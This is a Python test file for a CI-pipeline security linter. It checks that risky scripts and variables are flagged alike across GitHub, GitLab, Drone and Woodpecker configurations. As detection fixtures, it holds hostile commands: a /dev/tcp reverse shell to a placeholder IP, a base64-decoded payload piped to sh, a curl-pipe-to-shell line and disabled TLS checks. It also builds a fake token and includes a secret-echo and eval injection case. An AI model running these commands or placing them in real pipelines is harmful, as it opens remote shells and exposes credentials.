"""The same script, or the same variable, says the same on every platform, wherever the platform takes one."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from pipelaw.document import decode
from pipelaw.facts import releases
from pipelaw.facts.shells import SHELLS, family, reader
from pipelaw.loaders import load
from pipelaw.tree import MemoryTree

if TYPE_CHECKING:
    from collections.abc import Iterator

    from pipelaw.model import Job, Pipeline, Step

_TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0" + "fAk3d"  # no scanner has to find it here

SCRIPTS = {
    # what it believes, hides, mixes up and hands over
    "curl -k https://example.com/a.tgz -o a.tgz": "unverified",
    "ssh -o StrictHostKeyChecking=no ci@example.com ls": "unverified",
    "npm ci --registry http://npm.example.com/": "unverified",
    "bash -i >& /dev/tcp/192.0.2.1/443 0>&1": "concealed",
    "echo ZWNobyBoaQo= | base64 -d | sh": "concealed",
    "pip install --extra-index-url https://pypi.example.com/simple -r req.txt": "confusion",
    "docker login -u ci -p $REGISTRY_PASSWORD example.com": "argument",
    "git clone https://ci:$GIT_PASSWORD@example.com/a.git": "argument",
    f"deploy --key {_TOKEN}": "credential",
    "export DOCKER_HOST=tcp://192.0.2.1:2375": "service",
    "curl https://example.com/x.sh | sh": "remote",
    # what it takes from registries
    "npm install -g left-pad": "installs",
    "pip install black": "installs",
    "docker run acme/tool:stable lint": "installs",
    "docker run acme/tool:1.2.3 lint": "",
    "helm plugin install https://example.com/acme/diff": "installs",
    "npm ci": "",
    # what it gives to the world
    "npm publish": "publication publishes",
    "twine upload dist/*": "publication publishes",
    "uv publish --check-url https://pypi.org/simple/a/": "publication publishes",
    "cargo publish --dry-run": "",
    "npm publish --registry https://npm.example.com/": "publishes",
    "docker push acme/app:1": "publishes",
    "docker buildx build --push -t acme/app:1 .": "publishes",
    "helm push app-1.0.0.tgz oci://example.com/charts": "publishes",
    "/kaniko/executor --destination example.com/app:1": "publishes",
    "mvn -B deploy": "publishes",
    "goreleaser release --clean": "publishes",
    "goreleaser release --snapshot": "",
    "kubectl apply -f k8s/": "deploys",
    "terraform apply -auto-approve": "deploys",
    "helm upgrade --install app ./chart": "deploys",
    "aws s3 sync public s3://example.com": "deploys",
    "ansible-playbook site.yml": "deploys",
    "cf push app -f manifest.yml": "deploys",
    "cf deploy archive.mtar -f": "deploys",
    "oc rollout latest dc/app": "deploys",
    "kamal deploy": "deploys",
    "aws --region eu-west-1 ecs update-service --cluster a --service b": "deploys",
    "aws cloudformation deploy --template-file a.yml": "deploys",
    "vercel --prod --yes": "deploys",
    "vercel --yes": "",
    "rclone sync public remote:site": "deploys",
    'rsync -az --delete dist/ "$USER_NAME@$HOST:/srv/www"': "deploys",
    "scp -r dist/* www@web.example.com:/srv/www || exit 1": "deploys",
    "rsync -az www@web.example.com:/srv/www dist/": "",
    "scp -P 2222 a root@localhost:/tmp/a": "",
    'ssh -i key www@web.example.com "./restart"': "deploys",
    "ssh www@web.example.com <<EOF\n./restart\nEOF": "deploys",
    "ssh -N -L 80:db:80 www@web.example.com": "",
    'ssh -T git@git.example.com "info"': "",
    'ssh-keygen -t ed25519 -C "www@web.example.com" -N ""': "",
    "ansible-playbook --syntax-check site.yml": "",
    "release-cli create --name 1 --tag-name v1": "publishes",
    "gh pr merge --auto --squash": "merges",
    "glab mr merge 7 --yes": "merges",
    "glab mr accept 7": "merges",
    "curl -X PUT $API/merge_requests/7/merge": "merges",
    "gh api graphql -f query='mutation { enablePullRequestAutoMerge }'": "merges",
    "git merge main": "",
    "make test": "",
}
"""Scripts, and what is said about each: flaws, and what its step and job do."""

VARIABLES = {
    ("NODE_TLS_REJECT_UNAUTHORIZED", "0"): "unverified",
    ("GIT_SSH_COMMAND", "ssh -o StrictHostKeyChecking=no"): "unverified",
    ("GOPROXY", "http://proxy.example.com"): "unverified",
    ("PIP_EXTRA_INDEX_URL", "https://pypi.example.com/simple"): "confusion",
    ("API_KEY", _TOKEN): "credential",
    ("NODE_ENV", "test"): "",
}

_JOB = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
_DRONE = "kind: pipeline\ntype: docker\nname: a\n"
_STEPS = "steps:\n- name: a\n  image: alpine:3.20\n"

RUNNERS = {
    "github run": ("github", _JOB + "    - run: {}\n"),
    "github run, sh": ("github", _JOB + "    - shell: ash\n      run: {}\n"),
    "github retry": (
        "github",
        _JOB + "    - uses: nick-fields/retry@v3\n      with: {{command: {}}}\n",
    ),
    "github cli": ("github", _JOB + "    - uses: azure/cli@v2\n      with: {{inlineScript: {}}}\n"),
    "github action": (
        "github",
        "runs:\n  using: composite\n  steps:\n  - shell: bash\n    run: {}\n",
    ),
    "gitlab script": ("gitlab", "a:\n  script: [{}]\n"),
    "gitlab before": ("gitlab", "a:\n  before_script: [{}]\n  script: [make]\n"),
    "gitlab step": ("gitlab", "a:\n  run: [{{name: a, script: {}}}]\n"),
    "drone commands": ("drone", _DRONE + _STEPS + "  commands: [{}]\n"),
    "drone exec": ("drone", _DRONE + _STEPS + "  entrypoint: [sh, -c]\n  command: [{}]\n"),
    "woodpecker commands": ("woodpecker", _STEPS + "  commands: [{}]\n"),
    "woodpecker list": ("woodpecker", _STEPS + "  commands:\n  - {}\n"),
}
"""Where each platform takes a script: files with a gap for one."""

HOLDERS = {
    "github workflow": ("github", "env: {{{}: {}}}\n" + _JOB + "    - run: make\n"),
    "github job": (
        "github",
        "on: push\njobs:\n  a:\n    runs-on: x\n    env: {{{}: {}}}\n    steps: [run: make]\n",
    ),
    "github step": ("github", _JOB + "    - run: make\n      env: {{{}: {}}}\n"),
    "github action": ("github", _JOB + "    - uses: a/b@v1\n      env: {{{}: {}}}\n"),
    "gitlab file": ("gitlab", "variables: {{{}: {}}}\na:\n  script: [make]\n"),
    "gitlab job": ("gitlab", "a:\n  variables: {{{}: {}}}\n  script: [make]\n"),
    "gitlab step": ("gitlab", "a:\n  run: [{{name: a, script: make, env: {{{}: {}}}}}]\n"),
    "drone pipeline": ("drone", _DRONE + "environment: {{{}: {}}}\n" + _STEPS),
    "drone step": ("drone", _DRONE + _STEPS + "  environment: {{{}: {}}}\n  commands: [make]\n"),
    "woodpecker step": ("woodpecker", _STEPS + "  environment: {{{}: {}}}\n  commands: [make]\n"),
}
"""Where each platform takes variables: files with a gap for a name and one for a value."""

_PATHS = {
    "github": ".github/workflows/a.yml",
    "gitlab": ".gitlab-ci.yml",
    "drone": ".drone.yml",
    "woodpecker": ".woodpecker/a.yml",
}


def loaded(platform: str, text: str) -> Pipeline:
    path = "action.yml" if text.startswith("runs:") else _PATHS[platform]
    found = load(platform, decode(path, text.encode()), MemoryTree({path: text.encode()}))
    assert not found.problems
    return found.pipelines[0]


def said(pipeline: Pipeline) -> str:
    """What is known of the pipeline's scripts and variables, in words."""
    found: set[str] = set()
    for job in pipeline.jobs:
        found.update(_of_job(job))
        for scope in (pipeline, job, *job.steps):
            found.update(flaw.kind for flaw in scope.flaws)
            found.update("credential" for _ in scope.credentials)
            found.update("service" for one in scope.variables if one.name == "DOCKER_HOST")
    return " ".join(sorted(found))


def _of_job(job: Job) -> Iterator[str]:
    if job.publishes:
        yield "publishes"
    if job.deploys:
        yield "deploys"
    for step in job.steps:
        yield from _of_step(step)


def _of_step(step: Step) -> Iterator[str]:
    if step.merges:
        yield "merges"
    if step.installations:
        yield "installs"
    if step.publications:
        yield "publication"
    if any(command.remote for script in step.scripts for command in script.commands):
        yield "remote"


@pytest.mark.parametrize("runner", RUNNERS)
def test_a_script_says_the_same_everywhere(runner: str) -> None:
    platform, text = RUNNERS[runner]
    found = {script: said(loaded(platform, text.format(json.dumps(script)))) for script in SCRIPTS}
    assert found == SCRIPTS


@pytest.mark.parametrize("holder", HOLDERS)
def test_a_variable_says_the_same_everywhere(holder: str) -> None:
    platform, text = HOLDERS[holder]
    found = {
        (name, value): said(loaded(platform, text.format(name, json.dumps(value))))
        for name, value in VARIABLES
    }
    assert found == VARIABLES


@pytest.mark.parametrize("shell", sorted(SHELLS))
def test_every_shell_of_a_family_is_read_alike(shell: str) -> None:
    fetched = loaded(
        "drone", RUNNERS["drone commands"][1].format(f"curl https://a.example | {shell}")
    )
    assert said(fetched) == "remote"
    text = f"""\
on: pull_request_target
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
    - shell: {shell}
      run: |
        echo "$TOKEN" | base64
        eval "echo $TITLE"
      env:
        TOKEN: ${{{{ secrets.TOKEN }}}}
        TITLE: ${{{{ github.event.pull_request.title }}}}
"""
    (step,) = loaded("github", text).jobs[0].steps
    assert family(shell) == "bash"
    assert [leak.secret for leak in step.leaks] == ["TOKEN"]
    assert [one.time for one in step.expansions if one.reparsed] == ["run"]
    assert not step.flaws


@pytest.mark.parametrize(
    ("shell", "language"),
    [
        ("", "bash"),
        ("/bin/ash", "bash"),
        ("bash -eo pipefail {0}", "bash"),
        (r"C:\msys64\usr\bin\bash.exe {0}", "bash"),
        ("powershell", "pwsh"),
        ("CMD /D", "cmd"),
        ("python", ""),
        ("fish", ""),
    ],
)
def test_the_family_of_a_shell(shell: str, language: str) -> None:
    assert family(shell) == language


def test_cheap_tests_let_every_publishing_command_through() -> None:
    for programs, rest in releases._PUBLISHES:
        assert any(verb in f"{programs} {rest}" for verb in releases._GIVING), programs


def test_what_service_containers_run_is_read_too() -> None:
    text = (
        _DRONE
        + _STEPS
        + "services:\n- name: b\n  image: alpine:3.20\n  commands: [curl -k https://a.example]"
    )
    assert said(loaded("drone", text)) == "unverified"


@pytest.mark.parametrize(
    ("template", "program"),
    [
        ("bash", "bash"),
        ("bash -leo pipefail {0}", "bash"),
        ("sudo -E /bin/bash -e {0}", "bash"),
        ("arch -x86_64 zsh {0}", "zsh"),
        ("nix develop --command sh -e {0}", "sh"),
        ('script -q -e -c "bash {0}"', "bash"),
        ("docker exec -i node sh {0}", "sh"),
        ("'C:\\Program Files\\Git\\bin\\bash.exe' -e {0}", "bash"),
        ("msys2 {0}", "bash"),
        ("alpine.sh --root {0}", "bash"),
        ("sudo python3 -I {0}", "python3"),
        ("pwsh -command \". '{0}'\"", "pwsh"),
        ("Rscript {0}", "rscript"),
        ("cmd /D /C {0} bash", "cmd"),
        ("./tools/run {0}", "run"),
        ("", ""),
    ],
)
def test_the_program_that_reads_a_script_in_the_end(template: str, program: str) -> None:
    assert reader(template) == program
